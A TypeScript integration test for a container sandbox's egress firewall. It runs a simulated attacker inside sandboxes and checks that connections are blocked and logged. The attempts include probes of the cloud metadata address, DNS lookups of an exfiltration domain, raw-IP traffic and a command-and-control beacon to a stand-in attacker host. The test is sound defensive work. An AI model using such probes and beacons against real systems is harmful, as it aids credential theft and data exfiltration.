import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { EgressEvent } from "../../src/core/events.js";
import { NetnsImageBuilder } from "../../src/images/netns-image-builder.js";
import type { RuntimeConfig } from "../../src/runtime/runtime-config.js";
import { Sandbox } from "../../src/runtime/sandbox.js";
import type { SandboxEvent } from "../../src/runtime/sandbox-events.js";
import type { StartedSandbox } from "../../src/runtime/started-sandbox.js";
import { AttackerSession, DockerTestEnv, FIXTURES_IMAGE, ROOT, waitFor, type RunningFixture } from "./support/docker-test-env.js";

/**
 * runtime.catchAll, from inside a real sandbox: every TCP connection the server makes, to any
 * address and port, reaches the sidecar through the veth gateway, leaves an event with its
 * original destination, fails at once, and is refused unless a CIDR rule declares it; so does
 * every UDP datagram (never forwarded: the sidecar relays only DNS). The
 * targets are our own upstreams on the test's egress network; 169.254.169.254 is refused in
 * the sidecar before any dial (the sidecar's egress network has no route to it anyway).
 */
const ATTACKER = { id: FIXTURES_IMAGE, entrypoint: ["node", "/fixtures/attacker.mjs"] };
const ATTACKER_SERVER = { image: { ref: FIXTURES_IMAGE }, command: ["node", "/fixtures/attacker.mjs"] };

let env: DockerTestEnv;
let undeclared: RunningFixture;
let declared: RunningFixture;
let resolver: RunningFixture;
let sandbox: StartedSandbox;
let captured: StartedSandbox;
let attacker: AttackerSession;
let captureAttacker: AttackerSession;
const events: SandboxEvent[] = [];
const captureEvents: SandboxEvent[] = [];

/** The request count of one of our upstreams, read from the host on the port it serves. */
async function count(ip: string, port: number): Promise<number> {
  const res = await fetch(`http://${ip}:${port}/__count`, { signal: AbortSignal.timeout(5000) });
  return ((await res.json()) as { count: number }).count;
}

const egressTo = (list: SandboxEvent[], ip: string, port: number): EgressEvent[] =>
  list.filter((e): e is EgressEvent => e.type === "egress" && e.ip === ip && e.port === port);

const eventTo = (list: SandboxEvent[], ip: string, port: number): Promise<EgressEvent> => waitFor(async () => egressTo(list, ip, port)[0]);

beforeAll(async () => {
  env = await DockerTestEnv.create();
  await new NetnsImageBuilder(env.engine, ROOT).ensure();
  [undeclared, declared, resolver] = await Promise.all([
    env.runFixture("upstream.mjs", { name: "undeclared", env: { NAME: "undeclared", PORT: "4444" } }),
    env.runFixture("upstream.mjs", { name: "declared", env: { NAME: "declared" } }),
    env.runFixture("dns-server.mjs", { name: "resolver", sysctls: { "net.ipv4.ip_unprivileged_port_start": "0" } }),
  ]);
  const base = await env.runtimeConfig();
  const runtime: RuntimeConfig = { ...base, runtime: { ...base.runtime, catchAll: true } };
  const sandboxes = new Sandbox({ engine: env.engine, logger: env.logger });
  const stateDir = await env.stateRoot();
  const { policy, file } = await env.policy(`catchall-${env.run}`, {
    server: ATTACKER_SERVER,
    egress: { mode: "enforcing", allow: [{ cidr: `${declared.ip}/32`, ports: [8080] }] },
  });
  const quarantined = await env.policy(`catchcap-${env.run}`, { server: ATTACKER_SERVER, egress: { mode: "enforcing", allow: [] } });
  [sandbox, captured] = await Promise.all([
    sandboxes.start({ policy, policyFile: file, runtime, image: ATTACKER, run: env.run, stateDir, onEvent: (e) => events.push(e) }),
    sandboxes.start({ ...quarantined, policyFile: quarantined.file, runtime, image: ATTACKER, run: env.run, stateDir, capture: true, onEvent: (e) => captureEvents.push(e) }),
  ]);
  attacker = new AttackerSession(sandbox.stdin, sandbox.stdout);
  captureAttacker = new AttackerSession(captured.stdin, captured.stdout);
  const started = events.find((e) => e.type === "runtime" && e.action === "sandbox-started");
  console.log(`catch-all sandbox start phases: ${JSON.stringify(started?.type === "runtime" ? started.detail?.["phases"] : undefined)}`);
}, 600_000);

afterAll(async () => {
  await Promise.all([sandbox?.stop(), captured?.stop()]);
  await env?.cleanup();
  expect(await env.leftovers()).toEqual([]);
}, 120_000);

describe("every attempt is seen (runtime.catchAll)", () => {
  it("the metadata address: refused in the sidecar with an event naming it, at once, and never dialled", async () => {
    const result = await attacker.send({ op: "tcp", host: "169.254.169.254", port: 80, send: "GET / HTTP/1.1\r\nHost: metadata\r\n\r\n" });
    expect(result.ok === false || result.data === "").toBe(true);
    expect(result.ms).toBeLessThan(1000);
    const event = await eventTo(events, "169.254.169.254", 80);
    expect(event).toMatchObject({ phase: "decide", verdict: "block", protocol: "tcp" });
    expect(event.reasons).toContain("destination-metadata");
    // Dialled connections get a close event with bytes; a refused one has none.
    expect(events.filter((e) => e.type === "egress" && e.id === event.id && e.phase === "close")).toEqual([]);
  });

  it("our undeclared upstream by raw IP on an odd port: refused with an event, fast, and it hears nothing", async () => {
    expect(await count(undeclared.ip, 4444)).toBe(0);
    const [tcp, http] = await Promise.all([
      attacker.send({ op: "tcp", host: undeclared.ip, port: 4444, send: "hello\n" }),
      attacker.send({ op: "http", url: `http://${undeclared.ip}:4444/` }),
    ]);
    expect(tcp.ok === false || tcp.data === "").toBe(true);
    expect(http).toMatchObject({ ok: false });
    expect(tcp.ms).toBeLessThan(1000);
    await waitFor(async () => (egressTo(events, undeclared.ip, 4444).length >= 2 ? true : undefined));
    for (const e of egressTo(events, undeclared.ip, 4444)) {
      expect(e).toMatchObject({ verdict: "block" });
      expect(e.reasons).toContain("undeclared-ip");
    }
    expect(await count(undeclared.ip, 4444)).toBe(0);
  });

  it("an unused address of the sandbox's own subnet (its gateway) is refused with an event, not a 3 s stall", async () => {
    const gateway = sandbox.network.gateway;
    const result = await attacker.send({ op: "tcp", host: gateway, port: 80 });
    expect(result.ms).toBeLessThan(1000);
    expect((await eventTo(events, gateway, 80)).verdict).toBe("block");
  });

  it("a UDP datagram to our resolver by raw IP (DNS around the sidecar) leaves an event with its destination, and the resolver hears nothing", async () => {
    expect(await count(resolver.ip, 8080)).toBe(0);
    await Promise.all([
      attacker.send({ op: "dns", server: resolver.ip, name: "exfil.example.test", timeoutMs: 1000 }),
      attacker.send({ op: "udp", host: undeclared.ip, port: 4444, timeoutMs: 1000 }),
    ]);
    const dns = await eventTo(events, resolver.ip, 53);
    expect(dns).toMatchObject({ protocol: "udp", verdict: "block" });
    expect(dns.reasons).toContain("undeclared-ip");
    const datagram = await waitFor(async () => egressTo(events, undeclared.ip, 4444).find((e) => e.protocol === "udp"));
    expect(datagram).toMatchObject({ verdict: "block", error: "udp datagram not forwarded" });
    expect(await count(resolver.ip, 8080)).toBe(0);
  });

  it("a declared CIDR destination by raw IP still works, spliced to that very address", async () => {
    const before = await count(declared.ip, 8080);
    const result = await attacker.send({ op: "http", url: `http://${declared.ip}:8080/hello` });
    expect(result).toMatchObject({ ok: true });
    expect(await count(declared.ip, 8080)).toBe(before + 1);
    const decided = await eventTo(events, declared.ip, 8080);
    expect(decided).toMatchObject({ verdict: "allow", reasons: ["declared-cidr"] });
  });

  it("after a sidecar crash and restart, the gateway is set up again: a raw IP still reaches the sidecar and leaves an event", async () => {
    await env.engine.killContainer(sandbox.sidecarId, "SIGKILL");
    await waitFor(async () => (events.some((e) => e.type === "runtime" && e.action === "sidecar-restarted") ? true : undefined), 60_000);
    const result = await attacker.send({ op: "tcp", host: undeclared.ip, port: 4445, send: "again\n" });
    expect(result.ms).toBeLessThan(1000);
    expect((await eventTo(events, undeclared.ip, 4445)).reasons).toContain("undeclared-ip");
    expect(await count(undeclared.ip, 4444)).toBe(0);
  }, 120_000);

  it("capture records an attempt on any port, named by its Host, and an attempt by raw IP, and refuses both", async () => {
    const named = await captureAttacker.send({ op: "http", url: "http://c2.attacker.test:4444/beacon" });
    // The sidecar answers for the name it handed out, with its refusal.
    expect(named.ok === false || Number(named["status"]) >= 400).toBe(true);
    const raw = await captureAttacker.send({ op: "tcp", host: undeclared.ip, port: 4444, send: "x" });
    expect(raw.ms).toBeLessThan(1000);
    const byName = await waitFor(async () => captureEvents.find((e): e is EgressEvent => e.type === "egress" && e.port === 4444 && e.name === "c2.attacker.test"));
    expect(byName.reasons).toContain("capture");
    expect((await eventTo(captureEvents, undeclared.ip, 4444)).reasons).toContain("capture");
    expect(await count(undeclared.ip, 4444)).toBe(0);
  });
});
